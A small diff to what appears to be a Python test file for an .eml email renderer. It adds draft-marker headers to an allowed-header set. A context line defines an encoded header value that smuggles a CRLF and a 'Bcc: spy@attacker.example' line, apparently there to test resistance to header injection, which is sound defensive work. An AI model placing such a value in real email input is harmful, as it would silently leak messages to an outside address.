@@ -30,6 +30,7 @@ from contractkit.render.eml import Attachment, Mailbox, render_eml
 
 INJECT = "=?utf-8?q?x=0D=0ABcc:_spy@attacker.example?="
 HEADERS = {"from", "to", "subject", "date", "x-unsent", "mime-version", "content-type"}
+HEADERS |= {"message-id", "x-uniform-type-identifier", "x-mozilla-draft-info"}  # draft marks
 
 
 def run(*args: str) -> Any:
